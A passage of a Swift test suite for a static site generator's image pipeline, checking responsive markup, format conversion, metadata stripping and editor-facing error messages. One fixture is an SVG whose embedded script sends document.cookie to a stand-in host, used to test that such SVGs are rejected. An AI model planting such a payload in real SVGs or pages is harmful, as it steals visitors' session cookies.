import Foundation
import Testing
@testable import SiteGen

/// A site with photos, built in memory: the markup pages show them with, the files that are
/// published (and the ones that are not), and the messages editors get about their images.
@Suite struct ImagePublishingTests {
    static let stadt = TestPhoto.make(width: 1600, height: 1200, seed: 2, personalData: true)
    /// Seen 600 × 800, stored on its side with orientation 6, as a phone stores it.
    static let hochkant = TestPhoto.make(width: 600, height: 800, seed: 3, orientation: 6, personalData: true)

    func post(_ body: String, frontMatter: String = "") -> String {
        "---\ntitle: Fotos\ndate: 2025-03-01\nfields: [daten-und-plattformen]\n\(frontMatter)---\n\(body)"
    }

    func build(_ extra: [String: String], photos: [String: [UInt8]] = [:], siteYML: String = "") -> (BuildReport, [String: [UInt8]]) {
        var files = TestSupport.minimalSite
        files["site.yml"]! += siteYML
        for (k, v) in extra { files[k] = v }
        let (report, sink) = TestSupport.buildInMemory(files, photos: photos)
        return (report, sink.files)
    }

    func page(_ files: [String: [UInt8]], _ path: String) -> String { String(decoding: files[path] ?? [], as: UTF8.self) }

    /// The `<picture>` elements of a page, each as its source.
    func pictures(_ html: String) -> [String] {
        html.components(separatedBy: "<picture>").dropFirst().map { $0.components(separatedBy: "</picture>")[0] }
    }

    /// The value of `name="…"` in `tag`.
    func attribute(_ name: String, in tag: String) -> String? {
        guard let r = tag.firstRange(of: " \(name)=\"") else { return nil }
        return String(tag[r.upperBound...].prefix { $0 != "\"" })
    }

    @Test func photosInTheTextArePicturesWithSizesFormatsAndAltText() throws {
        let (report, files) = build(["posts/2025/fotos.md": post("![Blick über die Stadt](../../images/stadt.jpg)\n\nText.\n\n![Ein Turm, hochkant](turm.jpg)\n")],
                                    photos: ["images/stadt.jpg": Self.stadt, "posts/2025/turm.jpg": Self.hochkant])
        #expect(report.succeeded, "\(report.diagnostics)")
        let pictures = self.pictures(page(files, "blog/2025/fotos/index.html"))
        try #require(pictures.count == 2)
        let (first, second) = (pictures[0], pictures[1])
        // WebP first, then the original's format; the widths of site.yml up to the photo's own.
        let webp = try #require(first.split(separator: "<img").first.map(String.init))
        #expect(attribute("type", in: webp) == "image/webp")
        let webpSet = try #require(attribute("srcset", in: webp))
        #expect(webpSet.split(separator: ",").map { $0.split(separator: " ").last.map(String.init) ?? "" } == ["480w", "960w", "1440w", "1600w"])
        #expect(webpSet.hasPrefix("/images/stadt-480.") && webpSet.contains(".webp 480w"))
        let img = String(first[first.firstRange(of: "<img")!.lowerBound...])
        #expect(attribute("srcset", in: img)?.contains(".jpg 1600w") == true)
        #expect(attribute("src", in: img)?.hasPrefix("/images/stadt-960.") == true)
        #expect(attribute("sizes", in: img) == ImageSettings().sizes && attribute("sizes", in: webp) == ImageSettings().sizes)
        #expect(attribute("width", in: img) == "1600" && attribute("height", in: img) == "1200")
        #expect(attribute("alt", in: img) == "Blick über die Stadt" && attribute("decoding", in: img) == "async")
        // The page's first image is fetched at once, the next one when it is scrolled near.
        #expect(attribute("loading", in: img) == nil)
        let turm = String(second[second.firstRange(of: "<img")!.lowerBound...])
        #expect(attribute("loading", in: turm) == "lazy")
        #expect(attribute("width", in: turm) == "600" && attribute("height", in: turm) == "800", "the size as shown, upright")
        #expect(attribute("src", in: turm)?.hasPrefix("/posts/2025/turm-600.") == true)
        // Every address in the markup is a file of the site, free of the owner's data; the originals are not.
        for address in (webpSet + ", " + attribute("srcset", in: img)!).split(separator: ",") {
            let path = String(address.split(separator: " ")[0].dropFirst())
            let bytes = try #require(files[path], "\(path) missing")
            #expect(ImageMetadata.findings(bytes) == [], "\(path)")
        }
        #expect(files["images/stadt.jpg"] == nil && files["posts/2025/turm.jpg"] == nil)
        // Feed readers get every address absolute, srcset's too.
        let feed = page(files, "blog/feed.xml")
        #expect(feed.contains("srcset=&quot;https://example.org/images/stadt-480.") && !feed.contains(", /images/stadt-"))
        let published = files.filter { ImageFormat(path: $0.key)?.isProcessed == true }
        #expect(published.count == 8 + 4, "\(published.keys.sorted())")
        #expect(published.allSatisfy { ImageMetadata.findings($0.value) == [] })
    }

    @Test func aPostsPictureIsItsHeroItsCardsCropAndItsLinkPreview() throws {
        let text = post("Text.\n\n![Im Text](../../images/stadt.jpg)\n", frontMatter: "image: /images/titel.jpg\nimage_alt: Die Stadt am Abend\n")
        let (report, files) = build(["posts/2025/fotos.md": text],
                                    photos: ["images/titel.jpg": TestPhoto.make(width: 2400, height: 1600, seed: 4), "images/stadt.jpg": Self.stadt])
        #expect(report.succeeded, "\(report.diagnostics)")
        let html = page(files, "blog/2025/fotos/index.html")
        let pictures = self.pictures(html)
        try #require(pictures.count == 2)
        let hero = String(pictures[0][pictures[0].firstRange(of: "<img")!.lowerBound...])
        #expect(hero.contains("class=\"article-image\"") && attribute("loading", in: hero) == nil)
        #expect(attribute("width", in: hero) == "1920" && attribute("height", in: hero) == "1280")
        #expect(attribute("alt", in: hero) == "Die Stadt am Abend")
        // The hero is the page's first image, so the text's first one waits.
        #expect(pictures[1].contains("loading=\"lazy\""))
        // Link previews and search engines get the 1200 × 630 crop, as an absolute address.
        let og = try #require(html.firstRange(of: "<meta property=\"og:image\" content=\"").map { String(html[$0.upperBound...].prefix { $0 != "\"" }) })
        #expect(og.hasPrefix("https://example.org/images/titel-1200x630.") && og.hasSuffix(".jpg"))
        #expect(html.contains("\"image\":\"\(og)\""), "JSON-LD names the same image")
        let crop = try #require(files[String(og.dropFirst("https://example.org/".count))])
        let header = try ImageCodec.header(crop).get()
        #expect(header.width == 1200 && header.height == 630)
        // Cards show the crop, lazily.
        let card = try #require(self.pictures(page(files, "blog/index.html")).first)
        #expect(card.contains("class=\"card-image\"") && card.contains("loading=\"lazy\""))
        #expect(card.contains("-600x315.") && card.contains("-1200x630.") && card.contains("width=\"1200\" height=\"630\""))
    }

    @Test func originalsArePublishedOnlyWhenTheSiteSaysSoAndThenWithoutPersonalData() throws {
        let text = post("![Die Stadt](../../images/stadt.jpg) und [in voller Größe](../../images/stadt.jpg)\n")
        let (_, without) = build(["posts/2025/fotos.md": text], photos: ["images/stadt.jpg": Self.stadt])
        #expect(without["images/stadt.jpg"] == nil)
        let html = page(without, "blog/2025/fotos/index.html")
        let anchor = try #require(html.firstRange(of: "\">in voller Größe</a>").map { html[..<$0.lowerBound] })
        let link = anchor[anchor.range(of: "href=\"", options: .backwards)!.upperBound...]
        #expect(link.hasPrefix("/images/stadt-1600.") && link.hasSuffix(".jpg"), "a link leads to the largest size")

        let (report, with) = build(["posts/2025/fotos.md": text], photos: ["images/stadt.jpg": Self.stadt],
                                   siteYML: "images:\n  keep_originals: true\n")
        #expect(report.succeeded, "\(report.diagnostics)")
        let original = try #require(with["images/stadt.jpg"])
        #expect(original != Self.stadt && ImageMetadata.findings(original) == [])
        let header = try ImageCodec.header(original).get()
        #expect(header.width == 1600 && header.height == 1200)
        #expect(page(with, "blog/2025/fotos/index.html").contains("<a href=\"/images/stadt.jpg\">"))
    }

    /// A photo only a draft shows is held back with it, without the advice to remove it.
    @Test func aPhotoOnlyADraftShowsIsHeldBackWithoutAWord() {
        // A graphic too (it was told to be removed, with the draft still to publish).
        let draft = post("![Geheim](../../images/geheim.jpg)\n![Plan](../../images/geheim.svg)\n")
            .replacingOccurrences(of: "---\ntitle:", with: "---\ndraft: true\ntitle:")
        let (report, files) = build(["posts/2025/entwurf.md": draft, "posts/2025/fotos.md": post("Kein Bild.\n"), "images/geheim.svg": Self.svg],
                                    photos: ["images/geheim.jpg": Self.stadt])
        #expect(report.succeeded && report.diagnostics.warningMessages.filter { $0.contains("geheim") }.isEmpty, "\(report.diagnostics)")
        // (A graphic in images/ goes out as it is, as every file there does.)
        #expect(!files.keys.contains { $0.contains("geheim") && !$0.hasSuffix(".svg") })
    }

    /// A photo of a post that has an error of its own is not called unused (an editor might
    /// remove it): the post's error is the one message, and the photo goes out once it is fixed.
    @Test func aPhotoOfABrokenPostIsNotCalledUnused() {
        let broken = post("![Park](../../images/park.jpg)\n![Plan](../../images/park.svg)\n").replacingOccurrences(of: "title: Fotos", with: "title: \"Fotos")
        let (report, files) = build(["posts/2025/kaputt.md": broken, "posts/2025/fotos.md": post("Kein Bild.\n"), "images/park.svg": Self.svg],
                                    photos: ["images/park.jpg": Self.stadt, "images/unbenutzt.jpg": Self.stadt])
        #expect(!report.succeeded)
        #expect(report.diagnostics.contains { $0.severity == .error && $0.file.hasSuffix("posts/2025/kaputt.md") }, "\(report.diagnostics)")
        #expect(report.diagnostics.filter { $0.file.hasSuffix("park.jpg") || $0.file.hasSuffix("park.svg") }.isEmpty, "\(report.diagnostics)")
        #expect(report.diagnostics.contains { $0.file.hasSuffix("unbenutzt.jpg") && $0.message == SiteRenderer.unusedImageMessage })
        #expect(!files.keys.contains { $0.contains("park") && !$0.hasSuffix(".svg") })
    }

    static let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"></svg>"

    @Test func imagesNoPageUsesAreNamedAndPhotosAmongThemNotPublished() {
        let svg = Self.svg
        let (report, files) = build(["posts/2025/fotos.md": post("Kein Bild.\n"), "images/grafik.svg": svg],
                                    photos: ["images/unbenutzt.jpg": Self.stadt, "posts/2025/daneben.jpg": Self.hochkant])
        #expect(report.succeeded)
        let warnings = report.diagnostics.warningMessages
        #expect(warnings.contains("/c/images/unbenutzt.jpg: warning: This photo is not shown or linked by any page, so it is not published; show it with ![…](…) in the page it belongs to, or remove it"), "\(warnings)")
        #expect(warnings.contains("/c/posts/2025/daneben.jpg: warning: " + SiteRenderer.unlinkedMessage))
        #expect(warnings.contains("/c/images/grafik.svg: warning: This graphic is not shown or linked by any page; show it with ![…](…) in the page it belongs to, or remove it"))
        #expect(!files.keys.contains { $0.contains("unbenutzt") || $0.contains("daneben") })
        #expect(files["images/grafik.svg"] != nil, "an SVG in images/ is still published as it is")
    }

    @Test func brokenAndMisnamedImagesAreErrorsNamingTheFile() {
        let photo = TestPhoto.make(width: 800, height: 600)
        let text = post("![a](../../images/kaputt.jpg) ![b](../../images/falsch.jpg) ![c](../../images/text.jpg) ![d](../../images/skript.svg)\n")
        let script = "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<script>fetch('//evil.example/?'+document.cookie)</script>\n</svg>"
        let (report, _) = build(["posts/2025/fotos.md": text, "images/text.jpg": "<html>Fehler 404</html>", "images/skript.svg": script],
                                photos: ["images/kaputt.jpg": Array(photo.prefix(photo.count / 2)), "images/falsch.jpg": TestPhoto.make(format: .png)])
        #expect(!report.succeeded)
        let errors = report.diagnostics.errorMessages
        // Half a photo, as an upload that stopped: said in words, not in libjpeg's English.
        #expect(errors.contains("/c/images/kaputt.jpg: error: is cut off: the file ends before the JPEG picture does; copy or export it again"), "\(errors)")
        #expect(!ImageCodec.isCutOff(ImageCodec.Failure(description: "VipsJpeg: Unsupported marker type 0x12")))
        #expect(ImageCodec.isCutOff(ImageCodec.Failure(description: "VipsJpeg: Premature end of input file")))
        #expect(errors.contains("/c/images/falsch.jpg: error: is named as a JPEG image, but is a PNG image; rename it to end in .png, or export it again as JPEG"))
        #expect(errors.contains("/c/images/text.jpg: error: is not a JPEG image (its bytes are no image format); export it again as JPEG, or remove it"))
        // An empty file (an upload that never started) says so, instead of asking to export it again.
        #expect(ImageFormat.jpeg.mismatch([]) == "is an empty file (0 bytes), not a JPEG image; copy the picture again, or remove the file")
        #expect(errors.contains { $0.hasPrefix("/c/images/skript.svg:2: error: SVG contains a <script> element") })
    }

    /// A photo that is no image has its own error; the post that shows it (in its text or as its
    /// `image`) got another at its line, and every list showing its card one blamed on the templates.
    @Test func aPhotoThatCannotBeReadIsNamedOnceNotAtEveryPageShowingIt() {
        let text = post("![Die Stadt](../../images/text.jpg) [groß](../../images/falsch.jpg)\n", frontMatter: "image: /images/falsch.jpg\nimage_alt: Stadt\n")
        let (report, files) = build(["posts/2025/fotos.md": text, "images/text.jpg": "<html>Fehler 404</html>"],
                                    photos: ["images/falsch.jpg": TestPhoto.make(format: .png)])
        #expect(report.diagnostics.errorMessages == [
            "/c/images/falsch.jpg: error: is named as a JPEG image, but is a PNG image; rename it to end in .png, or export it again as JPEG",
            "/c/images/text.jpg: error: is not a JPEG image (its bytes are no image format); export it again as JPEG, or remove it",
        ], "\(report.diagnostics.errorMessages)")
        #expect(!page(files, "blog/index.html").contains("falsch.jpg"), "the card is shown without the picture")
    }

    /// A stretch of scrambled bytes inside a JPEG (a bad sector, a broken transfer) is only a
    /// warning to libjpeg, which paints the rest grey: it was published so, without a word.
    @Test func aPhotoDamagedInsideIsAnErrorNotGreyBands() {
        var photo = TestPhoto.make(width: 800, height: 600)
        for i in photo.count / 2..<(photo.count / 2 + 2000) { photo[i] = photo[i] &* 31 &+ 7 }
        let (report, files) = build(["posts/2025/fotos.md": post("![Die Stadt](../../images/kaputt.jpg)\n")], photos: ["images/kaputt.jpg": photo])
        #expect(!report.succeeded)
        #expect(report.diagnostics.errorMessages == ["/c/images/kaputt.jpg: error: is damaged: part of the JPEG picture cannot be read and would show as grey bands; copy or export it again"],
                "\(report.diagnostics)")
        #expect(!files.keys.contains { $0.hasPrefix("images/kaputt-") })
        #expect(ImageCodec.isDamaged(ImageCodec.Failure(description: "VipsJpeg: Corrupt JPEG data: premature end of data segment")))
        #expect(!ImageCodec.isCutOff(ImageCodec.Failure(description: "VipsJpeg: Corrupt JPEG data: premature end of data segment")))
    }

    @Test func anOriginalOverTheBudgetIsAWarning() {
        let text = post("![a](../../images/stadt.jpg)\n")
        let (report, files) = build(["posts/2025/fotos.md": text], photos: ["images/stadt.jpg": Self.stadt],
                                    siteYML: "images:\n  budget_megapixels: 1\n")
        #expect(report.succeeded && files.keys.contains { $0.hasPrefix("images/stadt-480.") })
        #expect(report.diagnostics.warningMessages.contains("/c/images/stadt.jpg: warning: has 1,9 megapixels, more than the 1 an original may have (images.budget_megapixels in site.yml); export it smaller, e.g. 4000 pixels wide"))
        let (bytesReport, _) = build(["posts/2025/fotos.md": text], photos: ["images/stadt.jpg": Self.stadt + [UInt8](repeating: 0, count: 1_000_000)],
                                     siteYML: "images:\n  budget_mb: 1\n")
        // A photo of 1.9 megapixels in a megabyte: fewer pixels are no help, JPEG at quality 85 is.
        #expect(bytesReport.diagnostics.warningMessages.contains { $0.hasPrefix("/c/images/stadt.jpg: warning: is 1,") && $0.contains("more than the 1 MB an original may have")
            && $0.hasSuffix("export it again as JPEG with quality 85, which keeps a photo in a fraction of the space") }, "\(bytesReport.diagnostics)")
    }

    @Test func theSettingsAreChecked() {
        let (report, _) = build([:], siteYML: "images:\n  widths: [10, 3000]\n  quality: 0\n  groesse: 3\n")
        let messages = report.diagnostics.map(\.description)
        #expect(messages.contains { $0.contains("site.yml:4: error: images.widths must list widths in pixels from 16 to 2560") }, "\(messages)")
        #expect(messages.contains { $0.contains("site.yml:5: error: images.quality must be from 1 to 100") })
        #expect(messages.contains { $0.contains("site.yml:6: warning: unknown key 'groesse'") })
    }

    @Test func widthsAndAVIFFollowTheSettings() throws {
        let (report, files) = build(["posts/2025/fotos.md": post("![Die Stadt](../../images/stadt.jpg)\n")], photos: ["images/stadt.jpg": Self.stadt],
                                    siteYML: "images:\n  widths: [320, 800]\n  avif: true\n  sizes: \"100vw\"\n")
        #expect(report.succeeded, "\(report.diagnostics)")
        let picture = try #require(pictures(page(files, "blog/2025/fotos/index.html")).first)
        #expect(picture.hasPrefix("<source type=\"image/avif\" srcset=\"/images/stadt-320."))
        #expect(picture.contains("<source type=\"image/webp\"") && picture.contains("sizes=\"100vw\""))
        #expect(picture.contains(".jpg 800w\"") && !picture.contains("1600w"))
        let avif = files.filter { $0.key.hasSuffix(".avif") }
        #expect(avif.count == 2 && avif.values.allSatisfy { ImageMetadata.personalStrings($0) == [] })
    }

    /// The example site's photos carry a (made-up) camera, owner and GPS position, as editors'
    /// photos do; the site carries none of it.
    @Test func noImageOfTheExampleSiteHoldsGPSOrCameraData() throws {
        let source = try [UInt8](Data(contentsOf: URL(fileURLWithPath: TestSupport.exampleContent + "/images/stadtsilhouette-abend.jpg")))
        #expect(ImageMetadata.personalStrings(source).contains("GeheimCam"))
        let builder = Builder(location: SiteLocation(content: TestSupport.exampleContent, templates: TestSupport.templates),
                              options: BuildOptions(now: TestSupport.now))
        let sink = MemorySink()
        let (report, _) = builder.run(into: sink)
        #expect(report.succeeded, "\(report.diagnostics)")
        let photos = sink.files.filter { ImageFormat(path: $0.key)?.isProcessed == true }
        #expect(photos.count == 20, "\(photos.keys.sorted())")
        for (path, bytes) in photos { #expect(ImageMetadata.findings(bytes) == [], "\(path)") }
        #expect(sink.files["images/stadtsilhouette-abend.jpg"] == nil && sink.files["posts/2025/messmast-hochkant.jpg"] == nil)
    }

    /// A GIF goes out as it is, but not with the XMP packet (author, GPS position) and comments
    /// that editing programs write into it: they were published byte for byte.
    @Test func aGIFIsPublishedWithoutItsCommentsAndXMP() throws {
        func block(_ label: UInt8, _ data: [UInt8]) -> [UInt8] { [0x21, label] + [UInt8(data.count)] + data + [0] }
        let xmp = Array("XMP DataXMP<x:xmpmeta><rdf:Description exif:GPSLatitude=\"51,30.5N\" dc:creator=\"Erika Mustermann\"/></x:xmpmeta>".utf8)
        let header = Array("GIF89a".utf8) + [2, 0, 2, 0, 0x80, 0, 0] + [0, 0, 0, 255, 255, 255]
        let loop = block(0xFF, Array("NETSCAPE2.0".utf8)).dropLast() + [3, 1, 0, 0, 0]
        let timing = block(0xF9, [0, 10, 0, 0])
        let image: [UInt8] = [0x2C, 0, 0, 0, 0, 2, 0, 2, 0, 0, 2, 2, 0x44, 0x01, 0]
        let original = header + block(0xFE, Array("GPS 51.5N Erika Mustermann".utf8)) + Array(loop) + block(0xFF, xmp) + timing + image + [0x3B]
        let (report, files) = build(["posts/2025/fotos.md": post("![Ein Fahrrad fährt durchs Bild](../../images/rad.gif)\n")],
                                    photos: ["images/rad.gif": original])
        #expect(report.succeeded, "\(report.diagnostics)")
        let published = try #require(files["images/rad.gif"])
        #expect(published == header + Array(loop) + timing + image + [0x3B])
        #expect(ImageMetadata.personalStrings(published) == [])
    }

    /// A JPEG named `.jfif` (as Windows saves one from the web) counted as no image: it was
    /// published as it is, with its GPS position and camera, shown or linked or not.
    @Test func aJPEGNamedJFIFIsAPhotoToo() throws {
        let text = post("![Die Stadt](../../images/stadt.jfif) und [in voller Größe](../../images/stadt.jfif)\n")
        let (report, files) = build(["posts/2025/fotos.md": text], photos: ["images/stadt.jfif": Self.stadt, "images/uebrig.jfif": Self.stadt])
        #expect(report.succeeded, "\(report.diagnostics)")
        #expect(report.diagnostics.warningMessages.contains { $0.hasPrefix("/c/images/uebrig.jfif: warning: This photo is not shown or linked by any page") },
                "\(report.diagnostics)")
        #expect(!files.keys.contains { $0.hasSuffix(".jfif") }, "\(files.keys.sorted())")
        let made = files.filter { $0.key.hasPrefix("images/stadt-") }
        #expect(made.keys.contains { $0.hasSuffix(".jpg") } && made.keys.contains { $0.hasSuffix(".webp") }, "\(made.keys.sorted())")
        for (path, bytes) in made { #expect(ImageMetadata.findings(bytes) == [], "\(path)") }
    }

    /// An SVG saved by Inkscape names the folder it was exported to, with the user's name; it went
    /// out without a word. A warning at the line: the graphic itself is published.
    @Test func anSVGThatNamesAUsersFolderIsAWarningAtItsLine() throws {
        let svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\"\n"
            + "  inkscape:export-filename=\"/home/erika.mustermann/Bilder/karte.png\" width=\"9\" height=\"9\">\n"
            + "<a href=\"https://www.dortmund.de/users/liste/\"><rect width=\"9\" height=\"9\"/></a>\n"
            + "<image href=\"file:///C:/Users/emustermann/Desktop/logo.png\" width=\"9\" height=\"9\"/></svg>\n"
        let (report, files) = build(["posts/2025/fotos.md": post("![Karte der Messstationen](../../images/karte.svg)\n"), "images/karte.svg": svg])
        #expect(report.succeeded, "\(report.diagnostics)")
        let clause = "which is published with it and gives away a user name; save the graphic as plain SVG, or remove the attribute"
        #expect(report.diagnostics.warningMessages.filter { $0.contains("karte.svg") } == [
            "/c/images/karte.svg:2: warning: SVG names a folder on the computer it was made on ('/home/erika.mustermann/Bilder/karte.png') in 'inkscape:export-filename', " + clause,
            "/c/images/karte.svg:4: warning: SVG names a folder on the computer it was made on ('file:///C:/Users/emustermann/Desktop/logo.png') in 'href', " + clause,
        ], "\(report.diagnostics)")
        #expect(files["images/karte.svg"] != nil)
        #expect(!SVGSafety.isUserFolder("/home/") && !SVGSafety.isUserFolder("https://example.org/home/a/") && SVGSafety.isUserFolder("C:\\Users\\erika\\a.png"))
    }

    /// A photo in Templates/assets/ (a designer's header picture) went out byte for byte, with its
    /// GPS position, camera and owner, also in a second picture after the JPEG's end. Its colour
    /// profile stays: unlike a made file, its colours depend on it.
    @Test func aThemePhotoIsPublishedWithoutPersonalMetadata() throws {
        let fs = MemoryFileSystem(Dictionary(uniqueKeysWithValues: TestSupport.minimalSite.map { ("/c/" + $0.key, $0.value) }))
        let root = TestSupport.templates
        for path in (FileManager.default.enumerator(atPath: root)?.allObjects as? [String]) ?? [] {
            if let data = FileManager.default.contents(atPath: root + "/" + path) { fs.write("/t/" + path, bytes: [UInt8](data)) }
        }
        let p3 = TestPhoto.make(width: 64, height: 48, personalData: true, displayP3: true)
        let png = Self.withTextChunk(TestPhoto.make(width: 64, height: 48, format: .png), "Author\0Erika Mustermann")
        let webp = TestPhoto.make(width: 64, height: 48, personalData: true, format: .webp)
        fs.write("/t/assets/img/kopf.jpg", bytes: p3 + Self.stadt)  // a phone's second picture after the end
        fs.write("/t/assets/img/kopf.png", bytes: png)
        fs.write("/t/assets/img/kopf.webp", bytes: webp)
        let builder = Builder(location: SiteLocation(content: "/c", templates: "/t", output: "/out"), options: BuildOptions(now: TestSupport.now), fileSystem: fs)
        let sink = MemorySink(fileSystem: fs)
        let (report, _) = builder.run(into: sink)
        #expect(report.succeeded, "\(report.diagnostics)")
        for (name, original) in [("jpg", p3 + Self.stadt), ("png", png), ("webp", webp)] {
            #expect(!ImageMetadata.personalStrings(original).isEmpty, "the test photo carries personal data: \(name)")
            let published = try #require(sink.files["assets/img/kopf." + name])
            #expect(ImageMetadata.personalStrings(published) == [], "\(name)")
            #expect(ImageFormat.sniff(published) == ImageFormat.sniff(original))
        }
        let jpeg = try #require(sink.files["assets/img/kopf.jpg"])
        #expect(jpeg.count < p3.count && jpeg.suffix(2) == [0xFF, 0xD9])
        #expect(String(decoding: ImageMetadata.outsidePixels(jpeg).map { $0 == 0 ? 32 : $0 }, as: UTF8.self).contains("ICC_PROFILE"))
        #expect(TestPhoto.isRed(TestPhoto.pixel(jpeg, 2, 2)), "the picture itself is unchanged")
    }

    /// A HEIC or TIFF picture, a camera raw or a Photoshop file in Templates/assets/ went out as it
    /// was, with where and with which camera it was taken (the build reads its metadata only in
    /// the formats photos are published in); browsers do not show HEIC either.
    @Test func aThemePictureWhoseMetadataCannotBeRemovedIsAnErrorAndNotPublished() throws {
        let fs = MemoryFileSystem(Dictionary(uniqueKeysWithValues: TestSupport.minimalSite.map { ("/c/" + $0.key, $0.value) }))
        let root = TestSupport.templates
        for path in (FileManager.default.enumerator(atPath: root)?.allObjects as? [String]) ?? [] {
            if let data = FileManager.default.contents(atPath: root + "/" + path) { fs.write("/t/" + path, bytes: [UInt8](data)) }
        }
        let files = ["img/kopf.HEIC": "HEIC", "img/plan.tif": "TIF", "img/kopf.dng": "DNG", "img/entwurf.psd": "PSD"]
        for name in files.keys { fs.write("/t/assets/" + name, bytes: Array("II*\u{0}GPS Erika Mustermann".utf8)) }
        let builder = Builder(location: SiteLocation(content: "/c", templates: "/t", output: "/out"), options: BuildOptions(now: TestSupport.now), fileSystem: fs)
        let sink = MemorySink(fileSystem: fs)
        let (report, _) = builder.run(into: sink)
        #expect(!report.succeeded)
        let errors = report.diagnostics.filter { $0.severity == .error }
        for (name, format) in files {
            #expect(sink.files["assets/" + name] == nil, "\(name) published")
            let expected = ["HEIC", "TIF"].contains(format) ? "browsers do not show \(format == "TIF" ? "TIFF" : format) pictures"
                : "this is a camera raw or image editor file (\(format))"
            #expect(errors.contains { $0.file == "Templates/assets/" + name && $0.message.hasPrefix(expected) }, "\(name): \(errors)")
        }
        #expect(errors.count == files.count, "\(errors)")
    }

    /// A site in memory with the real templates and `pictures` added to Templates/assets/, built.
    func buildWithThemePictures(_ pictures: [String: [UInt8]]) -> (BuildReport, MemorySink) {
        let fs = MemoryFileSystem(Dictionary(uniqueKeysWithValues: TestSupport.minimalSite.map { ("/c/" + $0.key, $0.value) }))
        let root = TestSupport.templates
        for path in (FileManager.default.enumerator(atPath: root)?.allObjects as? [String]) ?? [] {
            if let data = FileManager.default.contents(atPath: root + "/" + path) { fs.write("/t/" + path, bytes: [UInt8](data)) }
        }
        for (name, bytes) in pictures { fs.write("/t/assets/" + name, bytes: bytes) }
        let builder = Builder(location: SiteLocation(content: "/c", templates: "/t", output: "/out"), options: BuildOptions(now: TestSupport.now), fileSystem: fs)
        let sink = MemorySink(fileSystem: fs)
        return (builder.run(into: sink).0, sink)
    }

    /// A portrait photo from a phone in Templates/assets/ (stored on its side, EXIF orientation 6)
    /// lost its EXIF block with the orientation in it, and browsers showed it on its side. Now the
    /// orientation alone is written back, in a JPEG, a PNG (eXIf) and a WebP.
    @Test func aThemePhotoKeepsItsOrientation() throws {
        // The made-up PNG keeps its orientation in XMP only, which browsers ignore: this one is
        // stored on its side with an eXIf chunk (orientation 6 and an artist), as exiftool writes it.
        let artist = Array("Erika Mustermann".utf8) + [0]
        let exif: [UInt8] = [0x49, 0x49, 0x2A, 0, 8, 0, 0, 0, 2, 0, 0x12, 0x01, 3, 0, 1, 0, 0, 0, 6, 0, 0, 0,
                             0x3B, 0x01, 2, 0, UInt8(artist.count), 0, 0, 0, 38, 0, 0, 0, 0, 0, 0, 0] + artist
        let stored = TestPhoto.make(width: 80, height: 60, seed: 3, format: .png)
        let png = Array(stored[..<33]) + Self.pngChunk("eXIf", exif) + Array(stored[33...])
        let photos = [(ImageFormat.jpeg, TestPhoto.make(width: 60, height: 80, seed: 3, orientation: 6, personalData: true)), (.png, png),
                      (.webp, TestPhoto.make(width: 60, height: 80, seed: 3, orientation: 6, personalData: true, format: .webp))]
        let (report, sink) = buildWithThemePictures(Dictionary(uniqueKeysWithValues: photos.map { ("img/hochkant.\($0.0.fileExtension)", $0.1) }))
        #expect(report.succeeded, "\(report.diagnostics)")
        for (format, original) in photos {
            let published = try #require(sink.files["assets/img/hochkant.\(format.fileExtension)"])
            #expect(ImageMetadata.personalStrings(published) == [], "\(format)")
            #expect(!String(decoding: ImageMetadata.outsidePixels(published), as: UTF8.self).contains("GPS"), "\(format)")
            let (before, after) = (try ImageCodec.header(original).get(), try ImageCodec.header(published).get())
            #expect(before.orientation == 6 && after.orientation == 6 && after.width == 60 && after.height == 80, "\(format): \(after)")
        }
        #expect(ExifOrientation.read(ExifOrientation.tiff(8)[...]) == 8 && ExifOrientation.read(ExifOrientation.tiff(1)[...]) == nil)
    }

    /// A picture in Templates/assets/ that was not the format its name says (a PNG named .jpg, a
    /// JPEG named .png), or was cut off, went out as it was, with GPS position, camera and owner:
    /// only a file of the named format, read to its end, can be cleaned. An AVIF went out as it was
    /// too. Each is now an error at the file and not published.
    @Test func aThemePictureThatCannotBeCleanedIsAnErrorAndNotPublished() throws {
        let png = Self.withTextChunk(TestPhoto.make(width: 64, height: 48, format: .png), "Author\0Erika Mustermann")
        let jpeg = TestPhoto.make(width: 64, height: 48, personalData: true)
        let pictures = ["img/a.jpg": png, "img/b.png": jpeg, "img/c.jpg": Array(jpeg.prefix(jpeg.count - 200)),
                        "img/d.png": Array(png.prefix(png.count - 30)), "img/e.avif": jpeg]
        let (report, sink) = buildWithThemePictures(pictures)
        #expect(!report.succeeded)
        let errors = report.diagnostics.filter { $0.severity == .error }.map { "\($0.file): \($0.message)" }
        let cut = "cannot be read to its end (it is cut off or damaged), so its metadata (where and with which camera the picture was taken) cannot be removed, and it is not published; export it again"
        #expect(errors.sorted() == [
            "Templates/assets/img/a.jpg: is named as a JPEG image, but is a PNG image; rename it to end in .png, or export it again as JPEG",
            "Templates/assets/img/b.png: is named as a PNG image, but is a JPEG image; rename it to end in .jpg, or export it again as PNG",
            "Templates/assets/img/c.jpg: " + cut,
            "Templates/assets/img/d.png: " + cut,
            "Templates/assets/img/e.avif: the build cannot remove the metadata of an AVIF picture (where and with which camera it was taken), so it is not published; save it as JPEG, PNG or WebP and delete this file",
        ])
        for name in pictures.keys { #expect(sink.files["assets/" + name] == nil, "\(name) published") }
    }

    /// A progressive JPEG or an interlaced PNG is decoded whole in memory: a 2 MB progressive JPEG
    /// of 20000 × 20000 pixels took 1.2 GB, an interlaced PNG of 1 MB 1.4 GB (a 30000 × 30000 one
    /// several), one per core. Above 100 megapixels they are an error, before any decoding.
    @Test func aPictureDecodedWholeInMemoryIsRefusedAboveItsLimit() throws {
        let ihdr: [UInt8] = [0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30, 8, 2, 0, 0, 1]  // 30000 × 30000, RGB, Adam7
        let png = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A] + Self.pngChunk("IHDR", ihdr)
            + Self.pngChunk("IDAT", [0x78, 0x9C, 0x63, 0, 0, 0, 1, 0, 1]) + Self.pngChunk("IEND", [])
        var jpeg = TestPhoto.make(width: 400, height: 300)
        let sof = try #require((2..<jpeg.count - 1).first { jpeg[$0] == 0xFF && jpeg[$0 + 1] == 0xC0 })
        jpeg[sof + 1] = 0xC2  // progressive, 12000 × 10000
        jpeg.replaceSubrange((sof + 5)..<(sof + 9), with: [0x27, 0x10, 0x2E, 0xE0])
